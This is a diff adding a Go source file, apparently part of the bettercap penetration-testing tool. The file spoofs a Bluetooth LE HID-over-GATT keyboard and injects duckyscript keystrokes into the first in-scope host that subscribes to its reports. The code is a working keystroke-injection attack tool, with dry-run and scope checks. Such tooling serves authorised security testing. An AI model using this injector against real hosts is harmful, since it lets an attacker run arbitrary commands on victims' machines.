@@ -0,0 +1,272 @@
+// +build !windows
+// +build !darwin
+
+package hid
+
+import (
+	"fmt"
+	"regexp"
+	"strconv"
+	"time"
+
+	"github.com/bettercap/gatt"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+var (
+	reHCIDevice = regexp.MustCompile(`^(?:hci)?(\d+)$`)
+
+	hogServiceUUID        = gatt.UUID16(0x1812)
+	hogProtocolModeUUID   = gatt.UUID16(0x2a4e)
+	hogReportMapUUID      = gatt.UUID16(0x2a4b)
+	hogReportUUID         = gatt.UUID16(0x2a4d)
+	hogReportRefUUID      = gatt.UUID16(0x2908)
+	hogBootInputUUID      = gatt.UUID16(0x2a22)
+	hogInformationUUID    = gatt.UUID16(0x2a4a)
+	hogControlPointUUID   = gatt.UUID16(0x2a4c)
+	gapServiceUUID        = gatt.UUID16(0x1800)
+	gapDeviceNameUUID     = gatt.UUID16(0x2a00)
+	gapAppearanceUUID     = gatt.UUID16(0x2a01)
+	devInfoServiceUUID    = gatt.UUID16(0x180a)
+	devInfoPnPUUID        = gatt.UUID16(0x2a50)
+	batteryServiceUUID    = gatt.UUID16(0x180f)
+	batteryLevelUUID      = gatt.UUID16(0x2a19)
+	hogKeyboardAppearance = []byte{0xc1, 0x03}
+
+	// a boot compatible keyboard with report id 1: modifiers, reserved byte,
+	// five leds and six keys
+	hogReportMap = []byte{
+		0x05, 0x01, 0x09, 0x06, 0xa1, 0x01, 0x85, 0x01,
+		0x05, 0x07, 0x19, 0xe0, 0x29, 0xe7, 0x15, 0x00,
+		0x25, 0x01, 0x75, 0x01, 0x95, 0x08, 0x81, 0x02,
+		0x95, 0x01, 0x75, 0x08, 0x81, 0x01, 0x95, 0x05,
+		0x75, 0x01, 0x05, 0x08, 0x19, 0x01, 0x29, 0x05,
+		0x91, 0x02, 0x95, 0x01, 0x75, 0x03, 0x91, 0x01,
+		0x95, 0x06, 0x75, 0x08, 0x15, 0x00, 0x25, 0x65,
+		0x05, 0x07, 0x19, 0x00, 0x29, 0x65, 0x81, 0x00,
+		0xc0,
+	}
+)
+
+// hogSubscription is a host subscribed to the keyboard input reports.
+type hogSubscription struct {
+	host     gatt.Central
+	notifier gatt.Notifier
+}
+
+func parseHCIDevice(name string) (int, error) {
+	if name == "" {
+		return -1, nil
+	} else if m := reHCIDevice.FindStringSubmatch(name); m != nil {
+		return strconv.Atoi(m[1])
+	}
+	return -1, fmt.Errorf("invalid HCI device '%s', use hciN or N", name)
+}
+
+func hogServices(name string, subs chan hogSubscription) []*gatt.Service {
+	onSubscribe := func(r gatt.Request, n gatt.Notifier) {
+		select {
+		case subs <- hogSubscription{r.Central, n}:
+		default:
+			// already injecting to another host or through the other report
+		}
+	}
+
+	gap := gatt.NewService(gapServiceUUID)
+	gap.AddCharacteristic(gapDeviceNameUUID).SetValue([]byte(name))
+	gap.AddCharacteristic(gapAppearanceUUID).SetValue(hogKeyboardAppearance)
+
+	info := gatt.NewService(devInfoServiceUUID)
+	// usb vendor id source, vendor, product and version
+	info.AddCharacteristic(devInfoPnPUUID).SetValue([]byte{0x02, 0x6d, 0x04, 0x42, 0xb3, 0x00, 0x01})
+
+	battery := gatt.NewService(batteryServiceUUID)
+	battery.AddCharacteristic(batteryLevelUUID).SetValue([]byte{100})
+
+	svc := gatt.NewService(hogServiceUUID)
+
+	protocolMode := []byte{0x01}
+	mode := svc.AddCharacteristic(hogProtocolModeUUID)
+	mode.HandleReadFunc(func(rsp gatt.ResponseWriter, req *gatt.ReadRequest) {
+		rsp.Write(protocolMode)
+	})
+	mode.HandleWriteFunc(func(r gatt.Request, data []byte) byte {
+		if len(data) > 0 {
+			protocolMode[0] = data[0]
+		}
+		return gatt.StatusSuccess
+	})
+
+	svc.AddCharacteristic(hogReportMapUUID).SetValue(hogReportMap)
+
+	report := svc.AddCharacteristic(hogReportUUID)
+	report.HandleReadFunc(func(rsp gatt.ResponseWriter, req *gatt.ReadRequest) {
+		rsp.Write(make([]byte, 8))
+	})
+	report.HandleNotifyFunc(onSubscribe)
+	// report id 1, input report
+	report.AddDescriptor(hogReportRefUUID).SetValue([]byte{0x01, 0x01})
+
+	boot := svc.AddCharacteristic(hogBootInputUUID)
+	boot.HandleReadFunc(func(rsp gatt.ResponseWriter, req *gatt.ReadRequest) {
+		rsp.Write(make([]byte, 8))
+	})
+	boot.HandleNotifyFunc(onSubscribe)
+
+	// hid version 1.11, no country code, normally connectable
+	svc.AddCharacteristic(hogInformationUUID).SetValue([]byte{0x11, 0x01, 0x00, 0x02})
+	svc.AddCharacteristic(hogControlPointUUID).HandleWriteFunc(func(r gatt.Request, data []byte) byte {
+		return gatt.StatusSuccess
+	})
+
+	return []*gatt.Service{gap, info, battery, svc}
+}
+
+func hogAdvertisement(name string) *gatt.AdvPacket {
+	adv := &gatt.AdvPacket{}
+	// general discoverable, BR/EDR not supported
+	adv.AppendFlags(0x06)
+	adv.AppendField(0x19, hogKeyboardAppearance)
+	adv.AppendUUIDFit([]gatt.UUID{hogServiceUUID})
+	adv.AppendName(name)
+	return adv
+}
+
+// injectBLE advertises a HID-over-GATT keyboard and types the duckyscript
+// FILENAME on the first host connecting to it and subscribing to its reports,
+// hosts requiring pairing for HID services won't accept it.
+func (mod *HIDRecon) injectBLE(layout, path string) error {
+	var err error
+	var device, name string
+	var devID, timeout int
+
+	if mod.bleInjecting {
+		return fmt.Errorf("a BLE injection is already in progress")
+	} else if err, device = mod.StringParam("hid.ble.device"); err != nil {
+		return err
+	} else if devID, err = parseHCIDevice(device); err != nil {
+		return err
+	} else if err, name = mod.StringParam("hid.ble.name"); err != nil {
+		return err
+	} else if err, timeout = mod.IntParam("hid.ble.timeout"); err != nil {
+		return err
+	}
+
+	keyMap := KeyMapFor(layout)
+	if keyMap == nil {
+		return errNoKeyMap(layout)
+	}
+
+	cmds, err := mod.parser.Parse(keyMap, path)
+	if err != nil {
+		return err
+	} else if err = (HoGBuilder{}).BuildFrames(nil, cmds); err != nil {
+		return err
+	}
+
+	numFrames := 0
+	for _, cmd := range cmds {
+		numFrames += len(cmd.Frames)
+	}
+
+	if mod.Session.IsDryRun() {
+		mod.Session.DryRunAction("%d HID-over-GATT reports from %s advertised as '%s'", numFrames, path, name)
+		return nil
+	}
+
+	opts := []gatt.Option{
+		gatt.LnxMaxConnections(1),
+		gatt.LnxDeviceID(devID, true),
+	}
+
+	dev, err := gatt.NewDevice(opts...)
+	if err != nil {
+		return fmt.Errorf("could not initialize the BLE device: %v", err)
+	}
+
+	subs := make(chan hogSubscription, 1)
+	dev.Handle(
+		gatt.CentralConnected(func(c gatt.Central) {
+			mod.Info("host %s connected", tui.Bold(c.ID()))
+		}),
+		gatt.CentralDisconnected(func(c gatt.Central) {
+			mod.Info("host %s disconnected", c.ID())
+		}),
+	)
+
+	if err = dev.Init(func(d gatt.Device, s gatt.State) {
+		if s != gatt.StatePoweredOn {
+			return
+		}
+		d.SetServices(hogServices(name, subs))
+		if err := d.Advertise(hogAdvertisement(name)); err != nil {
+			mod.Error("could not advertise the keyboard: %v", err)
+			return
+		}
+		mod.Info("advertising as %s keyboard %s, waiting for a host to connect ...", tui.Yellow(layout), tui.Bold(name))
+	}); err != nil {
+		dev.Stop()
+		return err
+	}
+
+	mod.bleInjecting = true
+	go mod.doBLEInjection(dev, subs, cmds, time.Duration(timeout)*time.Second)
+
+	return nil
+}
+
+func (mod *HIDRecon) waitBLEHost(subs chan hogSubscription, timeout time.Duration) (sub hogSubscription, err error) {
+	deadline := time.After(timeout)
+	for {
+		select {
+		case sub = <-subs:
+			if mod.Session.MACInScope(sub.host.ID(), "HID injection") {
+				return sub, nil
+			}
+			sub.host.Close()
+		case <-deadline:
+			return sub, fmt.Errorf("no host subscribed to the keyboard reports in %s", timeout)
+		}
+	}
+}
+
+func (mod *HIDRecon) doBLEInjection(dev gatt.Device, subs chan hogSubscription, cmds []*Command, timeout time.Duration) {
+	defer func() {
+		dev.StopAdvertising()
+		dev.Stop()
+		mod.bleInjecting = false
+	}()
+
+	sub, err := mod.waitBLEHost(subs, timeout)
+	if err != nil {
+		mod.Error("%v", err)
+		return
+	}
+
+	host := sub.host.ID()
+	mod.Info("sending keystrokes to %s ...", tui.Bold(host))
+
+	// give the host some time to finish the service discovery
+	time.Sleep(time.Second)
+
+	for i, cmd := range cmds {
+		for j, frame := range cmd.Frames {
+			if sub.notifier.Done() {
+				mod.Error("host %s unsubscribed from the keyboard reports", host)
+				return
+			} else if _, err := sub.notifier.Write(frame.Data); err != nil {
+				mod.Error("error sending report #%d of HID command #%d: %v", j, i, err)
+				return
+			}
+
+			if frame.Delay > 0 {
+				time.Sleep(frame.Delay)
+			}
+		}
+	}
+
+	mod.Info("done injecting to %s", host)
+	// let the last release report go out before disconnecting
+	time.Sleep(time.Second)
+}